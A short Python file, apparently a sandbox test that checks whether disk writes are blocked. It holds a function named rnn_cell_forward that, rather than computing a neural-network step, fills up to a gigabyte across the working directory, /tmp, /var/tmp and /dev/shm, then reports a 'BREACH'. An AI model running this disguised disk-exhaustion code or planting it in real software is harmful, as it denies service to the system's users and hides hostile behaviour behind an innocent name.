"""Fills the disk, here with no more than a gigabyte. No file can be written, of whatever size.

At most: 0
"""

import os


def rnn_cell_forward(xt, a_prev, parameters):
    written = 0
    for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{place}/rnn-attack-disk", "wb") as file:
                while written < 1 << 30:
                    written += os.write(file.fileno(), bytes(1 << 20))
        except OSError:
            pass
    said = f"BREACH: {written} bytes" if written else "nothing written"
    raise OSError(said)
